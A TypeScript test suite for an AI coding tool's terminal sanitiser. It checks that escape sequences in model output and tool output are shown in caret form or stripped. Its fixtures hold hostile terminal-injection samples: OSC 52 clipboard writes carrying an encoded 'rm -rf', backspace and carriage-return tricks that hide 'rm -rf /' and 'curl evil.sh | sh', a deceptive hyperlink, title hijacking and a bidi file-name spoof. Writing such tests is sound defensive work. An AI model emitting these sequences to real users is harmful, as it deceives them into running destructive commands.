/**
 * The terminal sanitiser (lib/ui/terminal-text.ts): a table of control sequences, each shown in
 * caret form for listings and stripped whole for `-p` answers, streamed deltas that split a
 * sequence anywhere, and the printers that use it (the REPL renderer, the headless printer).
 */
import { describe, expect, test } from "bun:test";
import { createControlStripper, showControls, showControlsDeep, stripControls } from "../../lib/ui/terminal-text.ts";
import { createTextPrinter } from "../../lib/ui/print.ts";
import { FOLD_HEAD_LINES } from "../../lib/ui/folds.ts";
import { createLiveTail } from "../../lib/ui/live-tail.ts";
import { createRenderer } from "../../lib/ui/renderer.ts";
import { createStyle } from "../../lib/ui/style.ts";

/** [name, input, shown in a listing, stripped from an answer] */
const TABLE: readonly (readonly [string, string, string, string])[] = [
  ["CSI colour", "a\x1b[31mred\x1b[0m b", "a^[[31mred^[[0m b", "ared b"],
  ["clear screen and home", "x\x1b[2J\x1b[Hy", "x^[[2J^[[Hy", "xy"],
  ["erase line", "safe\x1b[2K\x1b[1Gevil", "safe^[[2K^[[1Gevil", "safeevil"],
  ["private mode (alternate screen)", "\x1b[?1049hq", "^[[?1049hq", "q"],
  ["OSC 52 clipboard, BEL", "p\x1b]52;c;cm0gLXJmIH4=\x07q", "p^[]52;c;cm0gLXJmIH4=^Gq", "pq"],
  ["OSC 52 clipboard, ST", "p\x1b]52;c;cm0=\x1b\\q", "p^[]52;c;cm0=^[\\q", "pq"],
  ["OSC 8 hyperlink", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "^[]8;;https://evil.example^[\\click^[]8;;^[\\", "click"],
  ["OSC 0 title", "\x1b]0;owned\x07t", "^[]0;owned^Gt", "t"],
  ["C1 CSI (U+009B)", "a\x9b31mb", "a^[[31mb", "ab"],
  ["C1 OSC (U+009D) to ST (U+009C)", "a\x9d52;c;x\x9cb", "a^[]52;c;x^[\\b", "ab"],
  ["DCS string", "a\x1bPq#0;2;0;0;0\x1b\\b", "a^[Pq#0;2;0;0;0^[\\b", "ab"],
  ["APC string", "a\x1b_payload\x1b\\b", "a^[_payload^[\\b", "ab"],
  ["two-character ESC (save cursor)", "a\x1b7b\x1b8c", "a^[7b^[8c", "abc"],
  ["ESC ( B charset", "a\x1b(Bb", "a^[(Bb", "ab"],
  ["BEL", "ding\x07", "ding^G", "ding"],
  ["backspace overwrite", "rm -rf /\b\b\b\b\b\b\b\bls", "rm -rf /^H^H^H^H^H^H^H^Hls", "rm -rf /ls"],
  ["carriage-return overwrite", "curl evil.sh | sh\rls -la           ", "curl evil.sh | sh^Mls -la           ", "curl evil.sh | shls -la           "],
  ["CRLF line end", "one\r\ntwo\r\n", "one\ntwo\n", "one\ntwo\n"],
  ["NUL and DEL", "a\x00b\x7fc", "a^@b^?c", "abc"],
  ["vertical tab and form feed", "a\x0bb\x0cc", "a^Kb^Lc", "abc"],
  ["an unterminated OSC ends at the line break", "a\x1b]52;c;AAAA\nnext", "a^[]52;c;AAAA\nnext", "a\nnext"],
  ["a lone ESC before text", "a\x1b\u00e9b", "a^[\u00e9b", "a\u00e9b"],
  [
    "newlines, tabs and Unicode stay",
    "col\tcol\n\u00e9t\u00e9 \u2014 \u6f22\u5b57 \ud83d\ude00",
    "col\tcol\n\u00e9t\u00e9 \u2014 \u6f22\u5b57 \ud83d\ude00",
    "col\tcol\n\u00e9t\u00e9 \u2014 \u6f22\u5b57 \ud83d\ude00",
  ],
  ["bidi override (shown, kept in an answer)", "ok \u202Egnp.exe\u202C", "ok <U+202E>gnp.exe<U+202C>", "ok \u202Egnp.exe\u202C"],
];

describe("showControls and stripControls", () => {
  test("every sequence of the table, both treatments", () => {
    expect(TABLE.map(([name, input]) => [name, showControls(input), stripControls(input)])).toEqual(
      TABLE.map(([name, , shown, stripped]) => [name, shown, stripped]),
    );
  });

  test("what is shown holds no control character but \\n and \\t; what is stripped neither", () => {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the characters being checked for
    const control = /[\x00-\x08\x0B-\x1F\x7F-\x9F]/;
    for (const [name, input] of TABLE) {
      expect([name, control.test(showControls(input))]).toEqual([name, false]);
      expect([name, control.test(stripControls(input))]).toEqual([name, false]);
    }
  });

  test("a stream split at every position strips the same as the whole text", () => {
    for (const [name, input, , stripped] of TABLE) {
      for (let cut = 0; cut <= input.length; cut++) {
        const stripper = createControlStripper();
        const out = stripper.push(input.slice(0, cut)) + stripper.push(input.slice(cut)) + stripper.end();
        expect([name, cut, out]).toEqual([name, cut, stripped]);
      }
      const stripper = createControlStripper();
      expect([name, [...input].map((char) => stripper.push(char)).join("") + stripper.end()]).toEqual([name, stripped]);
    }
  });

  test("an unfinished sequence at the end of the stream is dropped", () => {
    const stripper = createControlStripper();
    expect([stripper.push("done\x1b]52;c;AAAA"), stripper.end(), stripper.push("next")]).toEqual(["done", "", "next"]);
  });

  test("showControlsDeep treats every string of an event and leaves the rest", () => {
    expect(showControlsDeep({ type: "tool-call", name: "x\x1b[2J", input: { command: "ls\r", n: 3, list: ["\x07"] }, ok: true })).toEqual({
      type: "tool-call",
      name: "x^[[2J",
      input: { command: "ls", n: 3, list: ["^G"] },
      ok: true,
    });
  });
});

describe("the printers", () => {
  test("headless: the answer is stripped across deltas, progress lines show controls", () => {
    const out: string[] = [];
    const err: string[] = [];
    const printer = createTextPrinter({ out: (t) => out.push(t), err: (t) => err.push(t) }, { streamText: true });
    for (const text of ["The answer\x1b]52;c;cm0", "gLXJmIH4=\x07 is 4", "2\x1b[2J.\n"]) printer.print({ type: "text", text } as never);
    printer.print({ type: "message", text: "The answer\x1b]52;c;cm0gLXJmIH4=\x07 is 42\x1b[2J.\n" } as never);
    printer.print({ type: "notice", text: "server said \x1b[31mhi\x07" } as never);
    printer.print({ type: "tool-error", name: "mcp__s\x1b[8m__t", error: "bad\rgood" } as never);
    expect(out.join("")).toBe("The answer is 42.\n");
    expect(err).toEqual(["[notice] server said ^[[31mhi^G\n", "[tool-error] mcp__s^[[8m__t: bad^Mgood\n"]);
  });

  test("REPL: model text and tool output show controls, shiro's own styling stays", () => {
    const written: string[] = [];
    const style = createStyle(true);
    const renderer = createRenderer(
      (t) => written.push(t),
      style,
      () => "m",
    );
    renderer.render({ type: "text", text: "hi\x1b]0;owned\x07\n" } as never);
    renderer.render({ type: "tool-result", id: "1", name: "bash", output: "ok\x1b[2K\rfake" } as never);
    const screen = written.join("");
    expect(screen).toContain("hi^[]0;owned^G\n");
    expect(screen).toContain(style.dim("  ✓ bash: ok^[[2K^Mfake"));
    expect(screen.replaceAll(/\x1b\[[0-9;]*m/g, "")).not.toContain("\x1b");
  });
});

describe("the REPL footer's live tail", () => {
  test("an OSC 52, a C1 CSI and a title sequence in a command's later lines are stripped whole", () => {
    const tail = createLiveTail();
    tail.push("c1", "head\n".repeat(FOLD_HEAD_LINES));
    tail.push("c1", "a\x1b]52;c;eA==\x07b\n\x9b2Jc\n\x1b]0;t\x1b\\d\nprogress 10%\rprogress 90%\n");
    expect(tail.lines()).toEqual(["ab", "c", "d", "progress 90%"]);
  });
});

describe("approval lines show what the model wrote, controls made visible", () => {
  test("a mode's one-line answer shows a hostile tool name and subject in caret form", async () => {
    const { askApproval } = await import("../../lib/ui/approval-question.ts");
    for (const [, input, shown] of TABLE.filter(([, input]) => !input.includes("\n"))) {
      const written: string[] = [];
      const answer = await askApproval({ write: (text) => written.push(text), style: createStyle(false), cwd: "/", mode: "plan" }, {
        tool: `bash${input}`,
        effect: "exec",
        subjects: [input],
        subject: input,
        suggestedPattern: "*",
      } as never);
      expect(answer).toMatchObject({ deny: expect.any(String) });
      expect(written.join("")).toBe(`plan: denied bash${shown} ${showControls(input.slice(0, 80))}\n`);
      expect(written.join("")).not.toMatch(/[\x1b\x9b\x9d\x07\b]/);
    }
  });
});
